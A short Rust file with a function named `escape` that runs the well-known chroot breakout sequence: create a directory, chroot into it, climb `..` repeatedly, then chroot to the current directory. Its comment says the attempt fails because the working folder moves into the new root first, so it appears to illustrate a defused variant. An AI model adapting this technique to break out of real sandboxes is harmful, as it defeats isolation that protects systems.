//! Told: `..` stops at the root of the process.
//!
//! The working folder follows into the new root, and the climb ends there.

use std::env::set_current_dir;
use std::fs::create_dir;
use std::io;
use std::os::unix::fs::chroot;

pub(crate) fn escape() -> io::Result<()> {
    create_dir("hole")?;
    chroot("hole")?;
    set_current_dir("/")?;
    for _ in 0..256 {
        set_current_dir("..")?;
    }
    chroot(".")
}
